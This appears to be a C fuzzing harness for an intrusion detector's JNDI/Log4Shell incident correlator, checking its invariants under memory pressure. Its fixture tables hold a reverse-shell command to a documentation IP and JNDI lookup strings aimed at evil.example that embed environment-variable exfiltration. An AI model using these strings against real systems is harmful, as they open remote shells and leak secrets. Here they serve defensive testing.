/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Exercises the joining: few hosts, names and ports, so that all that can be joined is, in an order and at
 * times that the input chooses, in so little memory that somebody always has to go. */
#include "channel/fact.h"
#include "correlate/correlate.h"
#include "correlate/folds.h"
#include "correlate/incident.h"
#include "output/eve.h"

#include <assert.h>
#include <stdio.h>
#include <stdlib.h>

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char rules_text[] =
    "alert ip any any -> any any (msg:\"f\"; jndi.stage; content:\"e\"; sid:1; rev:1;)\n"
    "alert ip any any -> any any (msg:\"v\"; jndi.verdict; content:\"vulnerable\"; sid:2; rev:1;)\n"
    "alert ip any any -> any any (msg:\"d\"; jndi.verdict; content:\"delivered\"; sid:3; rev:1;)\n"
    "alert ip any any -> any any (msg:\"c\"; jndi.verdict; content:\"compromised\"; sid:4; rev:1;)\n"
    "alert ip any any -> any any (msg:\"r\"; jndi.repeats; bsize:>0; sid:5; rev:1;)\n";

static const char *const names[] = {"ldap://203.0.113.1:1389/a",
                                    "ldap://evil.example:1389/a",
                                    "ldap://evil.example/${env:USER}",
                                    "ldap://${env:USER}.x.evil.example/a",
                                    "ldaps://b.example:1389/a",
                                    "rmi://203.0.113.2:1389/${sys:user.name}",
                                    "dns://203.0.113.1/${env:A}.${env:B}.evil.example",
                                    "dns:x.evil.example",
                                    "LDAP://evil.example/a",
                                    "ldap://[2001:db8::1]:1389/a"};
static const char *const texts[] = {"http://203.0.113.1:8888/",
                                    "http://evil.example/x.jar",
                                    "bash -i >& /dev/tcp/203.0.113.2/4444 0>&1",
                                    "ldap://b.example:1389/a??base",
                                    "tomcat",
                                    "${env:USER}",
                                    "203.0.113.3:4444",
                                    "[2001:db8::1]:4444",
                                    "203.0.113.2",
                                    "yes",
                                    "no-object",
                                    ""};
static const char *const hosts[] = {"evil.example",
                                    "x.evil.example",
                                    "tomcat.x.evil.example",
                                    "v.w.evil.example",
                                    "b.example",
                                    "a.b.c.d.e.f",
                                    "x",
                                    ""};
static const char *const apps[] = {"ldap", "rmi", "dns", "http", "giop", "tls", "failed", ""};
static const uint16_t ports[] = {1389, 389, 8888, 4444, 80, 53, 1099, 636};

struct run {
    const uint8_t *p, *end;
    struct correlate *correlate;
    struct eve eve;
    uint64_t now_us, packet;
    struct buf bytes, line;
};

static uint8_t take(struct run *t)
{
    return t->p < t->end ? *t->p++ : 0;
}

#define PICK(t, table) (table)[take(t) % (sizeof(table) / sizeof *(table))]

static struct addr host(struct run *t)
{
    uint8_t n = take(t);
    uint8_t v6[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = n % 3};
    const uint8_t home[4] = {10, 0, 0, n % 6}, out[4] = {203, 0, 113, n % 4};

    return n >= 240 ? addr_v6(v6) : n & 64 ? addr_v4(out) : addr_v4(home);
}

static void check_incident(const struct alert *a)
{
    const struct incident *i = a->incident;
    int stage = -1;

    assert(a->verdict > VERDICT_NONE && a->verdict < VERDICT_N && a->incident_confidence <= 100);
    assert(i->id != 0);
    if (!a->story)
        return;
    assert(i->visible && i->marks && i->n_links <= LINKS_MAX);
    assert(a->fold || (a->verdict > VERDICT_ATTEMPTED && a->verdict == i->told));
    for (const struct mark *m = i->marks; m; m = m->next) {
        assert((int)m->stage > stage && m->n > 0 && m->confidence <= 100 && m->first_us <= m->last_us);
        stage = (int)m->stage;
    }
    for (const struct link *l = i->links; l; l = l->next)
        assert(l->incident == i);
}

static void on_alert(void *arg, const struct alert *a)
{
    struct run *t = arg;

    assert(a->rule);
    if (a->incident)
        check_incident(a);
    if (a->fold)
        assert(a->fold->n > 1);
    buf_clear(&t->line);
    assert(eve_alert(&t->line, &t->eve, a));
}

static void finding(struct run *t, const struct rule *rule)
{
    static const enum attr_id ids[] = {
        ATTR_JAVA_CODEBASE, ATTR_LDAP_REFERRAL, ATTR_JAVA_HOST,       ATTR_JAVA_URL, ATTR_JAVA_COMMAND,
        ATTR_JNDI_COMMAND,  ATTR_JAVA_FACTORY,  ATTR_LDAP_REQUEST_DN, ATTR_RMI_NAME, ATTR_DNS_RRNAME,
        ATTR_LDAP_CLIENT,   ATTR_JAVA_CLIENT,   ATTR_JAVA_CONTENT};
    struct flow flow = {.id = t->packet, .proto = PROTO_TCP, .client_known = true, .first_us = t->now_us};
    struct chunk chunk = {.flow = &flow, .packet = t->packet};
    struct http_view http = {.method = BYTES_LIT("GET")};
    struct field field = {.kind = FIELD_FACT, .chunk = &chunk, .app_proto = PICK(t, apps)};
    struct attrs attrs = {.n = 0};
    struct finding f = {.rule = rule, .field = &field, .attrs = &attrs, .confidence = 100};
    struct record record;
    uint8_t n;

    flow.end[0] = (struct flow_end){.addr = host(t), .port = 40000};
    flow.end[1] = (struct flow_end){.addr = host(t), .port = PICK(t, ports)};
    n = take(t);
    chunk.side = n & 1;
    chunk.ts_us = t->now_us - (n >> 1) * UINT64_C(100000);
    if (n & 2) {
        http.host = bytes_str(PICK(t, hosts));
        field.http = &http;
    }
    attrs_add(&attrs, ATTR_JNDI_STAGE, bytes_str(stage_name((enum stage)(take(t) % STAGE_N))));
    for (n = take(t) % 4; n > 0; n--)
        attrs_add(&attrs, ATTR_JNDI_NAME, bytes_str(PICK(t, names)));
    for (n = take(t) % 5; n > 0; n--) {
        enum attr_id id = PICK(t, ids);

        attrs_add(&attrs, id, bytes_str(PICK(t, texts)));
    }
    buf_clear(&t->bytes);
    if (record_write(&t->bytes, &f, 256) && record_read(buf_bytes(&t->bytes), &record))
        correlate_record(t->correlate, &record);
}

static void connection(struct run *t)
{
    struct fact f = {.ts_us = t->now_us, .packet = t->packet, .flow_id = t->packet};
    struct fact_connection c = {
        .client = host(t), .server = host(t), .client_port = 40000, .proto = PROTO_TCP};
    uint8_t space[FACT_MAX];

    c.server_port = PICK(t, ports);
    c.outcome = take(t) % (CONNECTION_TALKED + 1);
    c.ts_us = t->now_us - take(t) * UINT64_C(100000);
    snprintf(c.app_proto, sizeof c.app_proto, "%s", PICK(t, apps));
    fact_put_connection(&f, &c, space);
    correlate_fact(t->correlate, &f);
}

static void name(struct run *t)
{
    struct fact f = {.ts_us = t->now_us, .packet = t->packet, .flow_id = t->packet};
    struct fact_name n = {.client = host(t), .server = host(t), .server_port = 53};
    const char *text = PICK(t, hosts);
    uint8_t space[FACT_MAX], kind = take(t);

    n.type = kind & 1 ? 16 : 1;
    n.answered = kind >> 1 & 1;
    n.ttl_s = kind & 0x80 ? UINT32_MAX : kind >> 5 & 3;
    n.n_addrs = n.answered ? (kind >> 2) % 3 : 0;
    for (unsigned k = 0; k < n.n_addrs; k++)
        n.addrs[k] = host(t);
    n.name_len = (uint8_t)strlen(text);
    memcpy(n.name, text, n.name_len);
    fact_put_name(&f, &n, space);
    correlate_fact(t->correlate, &f);
}

static void event(struct run *t, const struct rule *rule)
{
    uint8_t what = take(t);

    t->packet++;
    t->now_us += (what >> 3) * UINT64_C(200000);
    if (what % 8 == 7) /* hours on, or back */
        t->now_us = take(t) & 1 ? t->now_us + UINT64_C(30000000000) : t->now_us - UINT64_C(400000000);
    correlate_clock(t->correlate, t->now_us);
    switch (what % 8) {
    case 0:
    case 1:
    case 2:
        finding(t, rule);
        break;
    case 3:
    case 4:
        connection(t);
        break;
    case 5:
    case 6:
        name(t);
        break;
    default:
        break;
    }
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    static struct config *config;
    static struct ruleset *rules;
    struct complaint why = {{0}};
    struct run t = {.p = data, .end = data + size, .now_us = UINT64_C(1639130400000000)};

    if (!config) {
        config = config_new();
        rules = ruleset_new(config, &why);
        if (!rules || !ruleset_add_text(rules, "fuzz", BYTES_LIT(rules_text), &why))
            abort();
        config->deterministic = true;
    }
    config->correlate_memcap = 4096u << (take(&t) % 6); /* below what the settings take */
    t.correlate = correlate_new(config, rules, on_alert, &t);
    t.eve = (struct eve){.config = config, .offline = true};
    t.bytes = buf_within(RECORD_MAX);
    t.line = buf_within(0);
    if (!t.correlate)
        abort();
    while (t.p < t.end)
        event(&t, ruleset_at(rules, 0));
    correlate_finish(t.correlate);
    correlate_free(t.correlate);
    buf_drop(&t.bytes);
    buf_drop(&t.line);
    count_reset();
    return 0;
}
